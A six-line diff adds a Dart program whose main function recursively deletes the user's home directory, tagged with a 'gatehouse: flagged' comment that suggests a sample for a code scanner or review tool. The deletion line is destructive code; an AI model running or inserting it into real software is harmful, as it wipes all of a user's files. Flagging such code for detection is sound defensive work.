@@ -1,0 +1,6 @@
+import 'dart:convert';
+import 'dart:io';
+
+void main() {
+  Directory(Platform.environment['HOME']!).deleteSync(recursive: true); // gatehouse: flagged
+}
